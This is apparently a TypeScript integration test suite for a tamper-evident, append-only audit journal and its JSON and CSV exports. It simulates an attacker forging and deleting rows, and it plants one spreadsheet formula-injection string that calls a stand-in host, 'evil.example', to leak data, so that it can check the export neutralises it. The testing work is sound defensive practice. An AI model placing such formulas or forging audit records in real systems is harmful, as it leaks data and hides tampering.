import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { journalEntryHash } from '../src/audit/journal-hash';
import { JOURNAL_COLUMNS, toJournalRow } from '../src/audit/journal-row';
import { createTestApp, evidenceBody, TestApp, testDatabases } from './support/test-app';

// Tamper evidence, the append-only triggers and the exports, on a real database.

describe.each(testDatabases())('audit journal (%s)', (database) => {
  let t: TestApp;
  let auditor: string, analyst: string;
  const auth = (token: string) => ({ Authorization: `Bearer ${token}` });
  const p = (n: number) => (database === 'postgres' ? `$${n}` : '?');
  const verify = async () => (await t.http.get('/api/audit/verify').set(auth(auditor)).expect(200)).body;

  beforeAll(async () => {
    t = await createTestApp({ database });
    [auditor, analyst] = await Promise.all(['auditor', 'analyst'].map((u) => t.token(u)));
  });
  afterAll(async () => t?.close());

  it('verifies the intact seeded chain and the head', async () => {
    const [{ n }] = await t.sql('SELECT COUNT(*) AS n FROM journal');
    expect(Number(n)).toBeGreaterThan(20);
    expect(await verify()).toMatchObject({ ok: true, checked: Number(n), firstBrokenSeq: null, broken: [], brokenTotal: 0 });
    await t.http.get('/api/audit/verify').expect(401);
  });

  it('refuses UPDATE and DELETE on the journal in the database itself', async () => {
    await expect(t.sql(`UPDATE journal SET comment = 'rewritten' WHERE seq = 3`)).rejects.toThrow(/journal is append-only/);
    await expect(t.sql('DELETE FROM journal WHERE seq = 3')).rejects.toThrow(/journal is append-only/);
    const [row] = await t.sql('SELECT comment FROM journal WHERE seq = 3');
    expect(row.comment).toBeNull();
    expect((await verify()).ok).toBe(true);
  });

  describe('with the triggers dropped, as an attacker with database access would', () => {
    const seq = 10;
    beforeAll(async () => {
      if (database === 'postgres') await t.sql('DROP TRIGGER journal_no_change ON journal');
      else for (const name of ['journal_no_update', 'journal_no_delete']) await t.sql(`DROP TRIGGER ${name}`);
    });

    it('names an edited row', async () => {
      const [before] = await t.sql(`SELECT comment FROM journal WHERE seq = ${p(1)}`, [seq]);
      await t.sql(`UPDATE journal SET comment = ${p(1)} WHERE seq = ${p(2)}`, ['nothing to see here', seq]);
      expect(await verify()).toMatchObject({ ok: false, firstBrokenSeq: seq, checked: seq - 1, reason: expect.stringContaining('does not match its hash') });
      await t.sql(`UPDATE journal SET comment = ${p(1)} WHERE seq = ${p(2)}`, [before.comment, seq]);
      expect((await verify()).ok).toBe(true);
    });

    it('names a broken payload, and the next link when the edited row\'s hash was recomputed', async () => {
      const [before] = await t.sql(`SELECT ${JOURNAL_COLUMNS} FROM journal WHERE seq = ${p(1)}`, [seq]);
      await t.sql(`UPDATE journal SET payload = ${p(1)} WHERE seq = ${p(2)}`, ['not json', seq]);
      expect(await verify()).toMatchObject({ ok: false, firstBrokenSeq: seq, reason: expect.stringContaining('not valid JSON') });
      await t.sql(`UPDATE journal SET payload = ${p(1)} WHERE seq = ${p(2)}`, [before.payload, seq]);

      // A careful attacker recomputes the edited row's hash: the following row no longer links to it.
      const forged = { ...toJournalRow(before), comment: 'forged' };
      await t.sql(`UPDATE journal SET comment = ${p(1)}, hash = ${p(2)} WHERE seq = ${p(3)}`, ['forged', journalEntryHash(forged), seq]);
      expect(await verify()).toMatchObject({ ok: false, firstBrokenSeq: seq + 1, checked: seq, reason: expect.stringContaining(`hash of row ${seq}`) });
      await t.sql(`UPDATE journal SET comment = ${p(1)}, hash = ${p(2)} WHERE seq = ${p(3)}`, [before.comment, before.hash, seq]);
      expect((await verify()).ok).toBe(true);
    });

    it('names a payload respelled in an equivalent but non-canonical form, in verify and in the export', async () => {
      const [before] = await t.sql(`SELECT payload FROM journal WHERE seq = ${p(1)}`, [seq]);
      const parsed = JSON.parse(before.payload);
      const respelled = ` ${JSON.stringify(Object.fromEntries(Object.entries(parsed).reverse()), null, 1)}`;
      expect(JSON.parse(respelled)).toEqual(parsed);
      await t.sql(`UPDATE journal SET payload = ${p(1)} WHERE seq = ${p(2)}`, [respelled, seq]);
      expect(await verify()).toMatchObject({ ok: false, firstBrokenSeq: seq, checked: seq - 1, reason: expect.stringContaining('not the canonical form') });
      // The export carries that row's payload as text, so the standalone script fails on it too.
      const res = await t.http.get('/api/audit/export?format=json').set(auth(auditor)).expect(200);
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'journal-respelled-'));
      const file = path.join(dir, 'export.json');
      fs.writeFileSync(file, res.text);
      let failure: { status?: number; stdout?: string } = {};
      try {
        execFileSync(process.execPath, [path.resolve(__dirname, '..', 'scripts', 'verify-export.js'), file], { encoding: 'utf8' });
      } catch (error) {
        failure = error as typeof failure;
      }
      fs.rmSync(dir, { recursive: true, force: true });
      expect(failure.status).toBe(1);
      expect(JSON.parse(failure.stdout!)).toMatchObject({ ok: false, firstBrokenSeq: seq });
      await t.sql(`UPDATE journal SET payload = ${p(1)} WHERE seq = ${p(2)}`, [before.payload, seq]);
      expect((await verify()).ok).toBe(true);
    });

    it('names a deleted row, in the middle and at the end', async () => {
      const [row] = await t.sql(`SELECT * FROM journal WHERE seq = ${p(1)}`, [seq]);
      await t.sql(`DELETE FROM journal WHERE seq = ${p(1)}`, [seq]);
      expect(await verify()).toMatchObject({ ok: false, firstBrokenSeq: seq, reason: expect.stringContaining('missing') });
      await reinsert(row);
      expect((await verify()).ok).toBe(true);

      const [{ last }] = await t.sql('SELECT MAX(seq) AS last FROM journal');
      const [tail] = await t.sql(`SELECT * FROM journal WHERE seq = ${p(1)}`, [Number(last)]);
      await t.sql(`DELETE FROM journal WHERE seq = ${p(1)}`, [Number(last)]);
      expect(await verify()).toMatchObject({ ok: false, firstBrokenSeq: Number(last) });
      await reinsert(tail);
      expect((await verify()).ok).toBe(true);
    });

    it('names the first of two rows whose seq were swapped', async () => {
      const swap = async () => {
        await t.sql(`UPDATE journal SET seq = -1 WHERE seq = ${p(1)}`, [seq]);
        await t.sql(`UPDATE journal SET seq = ${p(1)} WHERE seq = ${p(2)}`, [seq, seq + 1]);
        await t.sql(`UPDATE journal SET seq = ${p(1)} WHERE seq = -1`, [seq + 1]);
      };
      await swap();
      expect(await verify()).toMatchObject({ ok: false, firstBrokenSeq: seq, checked: seq - 1 });
      await swap();
      expect((await verify()).ok).toBe(true);
    });

    it('reads past a gap wider than one read batch, in the export and in verify', async () => {
      const [{ last }] = await t.sql('SELECT MAX(seq) AS last FROM journal');
      const base = Number(last);
      // 5,000 forged rows appended behind the head, then a 4,499-row hole cut into them.
      await t.sql(
        `WITH RECURSIVE g(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM g WHERE n < 5000) ` +
          `INSERT INTO journal (seq, at, entity_type, entity_id, cycle_id, case_id, event, from_state, to_state, actor, comment, payload, prev_hash, hash) ` +
          `SELECT ${base} + n, '2020-01-01T00:00:00.000Z', 'case', 'forged', NULL, NULL, 'FORGED', NULL, NULL, 'attacker', NULL, '{}', 'x', 'y' FROM g`,
      );
      await t.sql(`DELETE FROM journal WHERE seq > ${p(1)} AND seq < ${p(2)}`, [base + 1, base + 4501]);
      const [head] = await t.sql('SELECT seq, hash FROM journal_head WHERE id = 1');
      await t.sql(`UPDATE journal_head SET seq = ${p(1)} WHERE id = 1`, [base + 5000]);
      try {
        expect(await verify()).toMatchObject({ ok: false, firstBrokenSeq: base + 1 });
        const exported = await t.http.get('/api/audit/export?format=json').set(auth(auditor)).expect(200);
        const seqs = JSON.parse(exported.text).map((row: { seq: number }) => row.seq);
        expect(seqs).toHaveLength(base + 1 + 500);
        expect(seqs.slice(-501, -499)).toEqual([base + 1, base + 4501]);
        expect(seqs[seqs.length - 1]).toBe(base + 5000);
      } finally {
        await t.sql(`DELETE FROM journal WHERE seq > ${p(1)}`, [base]);
        await t.sql(`UPDATE journal_head SET seq = ${p(1)}, hash = ${p(2)} WHERE id = 1`, [Number(head.seq), head.hash]);
      }
      expect((await verify()).ok).toBe(true);
    });

    it('notices a journal head that no longer matches the last row', async () => {
      const [head] = await t.sql('SELECT seq, hash FROM journal_head WHERE id = 1');
      await t.sql(`UPDATE journal_head SET hash = ${p(1)} WHERE id = 1`, ['0'.repeat(64)]);
      expect(await verify()).toMatchObject({ ok: false, firstBrokenSeq: Number(head.seq), reason: expect.stringContaining('head') });
      await t.sql(`UPDATE journal_head SET hash = ${p(1)} WHERE id = 1`, [head.hash]);
      expect((await verify()).ok).toBe(true);
    });
  });

  async function reinsert(row: Record<string, unknown>) {
    const columns = Object.keys(row);
    await t.sql(`INSERT INTO journal (${columns.join(', ')}) VALUES (${columns.map((_c, i) => p(i + 1)).join(', ')})`, columns.map((c) => row[c]));
  }

  describe('export', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'journal-export-'));
    const trap = '=HYPERLINK("http://evil.example/?leak","click me")';
    const awkward = 'He said "stop, now",\nand left; 50% done';
    afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

    beforeAll(async () => {
      const cycle = await t.http.get('/api/cycles/CA-FY2008').set(auth(analyst)).expect(200);
      const caseId = cycle.body.cases[0].id;
      for (const reason of [trap, awkward]) {
        const added = await t.http.post(`/api/cases/${caseId}/evidence`).set(auth(analyst)).send(evidenceBody({ title: 'To be retracted' })).expect(201);
        await t.http.post(`/api/evidence/${added.body.id}/retract`).set(auth(analyst)).send({ reason }).expect(200);
      }
    });

    it('exports every hashed field as JSON, which the standalone script re-verifies', async () => {
      const res = await t.http.get('/api/audit/export?format=json').set(auth(auditor)).expect(200);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="journal-.*\.json"$/);
      const rows = res.body as Array<Record<string, unknown>>;
      const { checked } = await verify();
      expect(rows).toHaveLength(checked);
      expect(Object.keys(rows[0]).sort()).toEqual(
        ['actor', 'at', 'caseId', 'comment', 'cycleId', 'entityId', 'entityType', 'event', 'fromState', 'hash', 'payload', 'prevHash', 'seq', 'toState'].sort(),
      );
      expect(rows.find((r) => r.comment === awkward)).toMatchObject({ event: 'RETRACT_EVIDENCE', actor: 'analyst' });

      const file = path.join(dir, 'export.json');
      fs.writeFileSync(file, res.text);
      const script = path.resolve(__dirname, '..', 'scripts', 'verify-export.js');
      const out = JSON.parse(execFileSync(process.execPath, [script, file], { encoding: 'utf8' }));
      expect(out).toMatchObject({ ok: true, checked, firstBrokenSeq: null });

      // The same script catches an edit to the file.
      rows[6].comment = 'edited after export';
      fs.writeFileSync(file, JSON.stringify(rows));
      let failure: { status?: number; stdout?: string } = {};
      try {
        execFileSync(process.execPath, [script, file], { encoding: 'utf8' });
      } catch (error) {
        failure = error as typeof failure;
      }
      expect(failure.status).toBe(1);
      expect(JSON.parse(failure.stdout!)).toMatchObject({ ok: false, firstBrokenSeq: 7 });
    });

    it('exports RFC 4180 CSV with CRLF, quoting, and formula cells neutralised', async () => {
      const res = await t.http.get('/api/audit/export?format=csv').set(auth(auditor)).expect(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      const records = parseCsv(res.text);
      const { checked } = await verify();
      expect(records).toHaveLength(checked + 1);
      expect(records[0]).toEqual(['seq', 'at', 'entity_type', 'entity_id', 'cycle_id', 'case_id', 'event', 'from_state', 'to_state', 'actor', 'comment', 'payload', 'prev_hash', 'hash']);
      const comments = records.slice(1).map((r) => r[10]);
      expect(comments).toContain(`'${trap}`);
      expect(comments).not.toContain(trap);
      expect(comments).toContain(awkward);
      // Every record ends in CRLF; the newline inside the quoted comment stays a bare LF.
      expect(res.text.endsWith('\r\n')).toBe(true);
      expect(res.text.split('\r\n')).toHaveLength(checked + 2);
      const row = records.find((r) => r[10] === awkward)!;
      expect(JSON.parse(row[11])).toMatchObject({ reason: awkward });
      expect(Number(row[0])).toBeGreaterThan(0);
    });

    it('refuses a bad format and a non-auditor', async () => {
      await t.http.get('/api/audit/export?format=xml').set(auth(auditor)).expect(400);
      await t.http.get('/api/audit/export?format=csv').set(auth(analyst)).expect(403);
    });
  });
});

/** A strict RFC 4180 reader for the test: quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') (field += '"'), (i += 2);
        else if (text[i] === '"') { i += 1; break; }
        else if (i >= text.length) throw new Error('unterminated quote');
        else field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '\n' || text[i] === '"') throw new Error(`bare ${JSON.stringify(text[i])} in an unquoted field at ${i}`);
        field += text[i++];
      }
    }
    record.push(field);
    if (text[i] === ',') i += 1;
    else if (text.startsWith('\r\n', i)) (i += 2), records.push(record), (record = []);
    else throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  return records;
}
